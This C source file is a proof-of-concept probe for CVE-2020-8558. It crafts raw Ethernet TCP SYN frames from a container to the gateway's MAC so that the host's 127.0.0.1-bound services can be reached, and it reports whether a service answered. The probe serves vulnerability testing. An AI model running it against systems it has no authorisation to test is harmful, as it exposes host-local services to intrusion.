/*
 * What a container's root can do with CAP_NET_RAW (a default capability) to reach the host's
 * 127.0.0.1 services through the bridge (CVE-2020-8558): write an Ethernet frame by hand, a TCP
 * SYN to DST:PORT sent to the gateway's MAC, and watch eth0 for the answer. Prints `synack` (a
 * service answered), `rst` (the host's stack answered, nothing listens) or `silent` (dropped).
 *   usage: localnet-probe GATEWAY DST PORT       (on eth0)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static void fail(const char *what) {
    fprintf(stderr, "localnet-probe: %s: %s\n", what, strerror(errno));
    exit(2);
}

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static uint16_t checksum(const void *data, size_t len, uint32_t sum) {
    const uint8_t *p = data;
    for (size_t i = 0; i + 1 < len; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (len & 1) sum += (uint32_t)(p[len - 1] << 8);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* The gateway's MAC, from the neighbour table once a datagram made the kernel resolve it. */
static int gateway_mac(const char *gateway, uint8_t mac[6]) {
    int udp = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
    inet_pton(AF_INET, gateway, &to.sin_addr);
    for (long end = now_ms() + 3000; now_ms() < end; usleep(50000)) {
        sendto(udp, "", 0, 0, (struct sockaddr *)&to, sizeof to);
        FILE *arp = fopen("/proc/net/arp", "r");
        char line[256], ip[64], hw[64];
        unsigned flags;
        while (arp && fgets(line, sizeof line, arp)) {
            if (sscanf(line, "%63s %*s %x %63s", ip, &flags, hw) == 3 && strcmp(ip, gateway) == 0 && (flags & 2) &&
                sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) ==
                    6) {
                fclose(arp);
                close(udp);
                return 0;
            }
        }
        if (arp) fclose(arp);
    }
    close(udp);
    return -1;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: localnet-probe GATEWAY DST PORT\n");
        return 2;
    }
    uint8_t gw_mac[6];
    if (gateway_mac(argv[1], gw_mac) < 0) fail("no neighbour entry for the gateway");

    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (fd < 0) fail("socket(AF_PACKET)");
    struct ifreq ifr = {0};
    strcpy(ifr.ifr_name, "eth0");
    if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) fail("SIOCGIFINDEX");
    int ifindex = ifr.ifr_ifindex;
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) fail("SIOCGIFHWADDR");
    uint8_t own_mac[6];
    memcpy(own_mac, ifr.ifr_hwaddr.sa_data, 6);
    int inet = socket(AF_INET, SOCK_DGRAM, 0);
    ifr.ifr_addr.sa_family = AF_INET;
    if (ioctl(inet, SIOCGIFADDR, &ifr) < 0) fail("SIOCGIFADDR");
    uint32_t own_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
    uint32_t dst_ip;
    inet_pton(AF_INET, argv[2], &dst_ip);
    uint16_t dport = (uint16_t)atoi(argv[3]), sport = (uint16_t)(40000 + getpid() % 20000);

    uint8_t frame[ETH_HLEN + 20 + 20] = {0};
    struct ether_header *eth = (void *)frame;
    memcpy(eth->ether_dhost, gw_mac, 6);
    memcpy(eth->ether_shost, own_mac, 6);
    eth->ether_type = htons(ETH_P_IP);
    struct iphdr *ip = (void *)(frame + ETH_HLEN);
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons(40);
    ip->id = htons((uint16_t)getpid());
    ip->frag_off = htons(IP_DF);
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = own_ip;
    ip->daddr = dst_ip;
    ip->check = checksum(ip, 20, 0);
    struct tcphdr *tcp = (void *)(frame + ETH_HLEN + 20);
    tcp->source = htons(sport);
    tcp->dest = htons(dport);
    tcp->seq = htonl(0x6b6f6b72);
    tcp->doff = 5;
    tcp->syn = 1;
    tcp->window = htons(64240);
    uint32_t pseudo = 0;
    const uint8_t *s = (const uint8_t *)&own_ip, *d = (const uint8_t *)&dst_ip;
    pseudo += (uint32_t)(s[0] << 8 | s[1]) + (uint32_t)(s[2] << 8 | s[3]);
    pseudo += (uint32_t)(d[0] << 8 | d[1]) + (uint32_t)(d[2] << 8 | d[3]);
    pseudo += IPPROTO_TCP + 20;
    tcp->check = checksum(tcp, 20, pseudo);

    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, gw_mac, 6);
    if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0) fail("sendto");

    for (long end = now_ms() + 2000; now_ms() < end;) {
        struct pollfd p = {.fd = fd, .events = POLLIN};
        if (poll(&p, 1, (int)(end - now_ms())) <= 0) break;
        uint8_t buf[2048];
        ssize_t n = recv(fd, buf, sizeof buf, 0);
        if (n < ETH_HLEN + 40) continue;
        struct iphdr *rip = (void *)(buf + ETH_HLEN);
        if (rip->protocol != IPPROTO_TCP || rip->saddr != dst_ip) continue;
        struct tcphdr *rtcp = (void *)(buf + ETH_HLEN + rip->ihl * 4);
        if (ntohs(rtcp->source) != dport || ntohs(rtcp->dest) != sport) continue;
        puts(rtcp->rst ? "rst" : rtcp->syn && rtcp->ack ? "synack" : "other");
        return 0;
    }
    puts("silent");
    return 0;
}
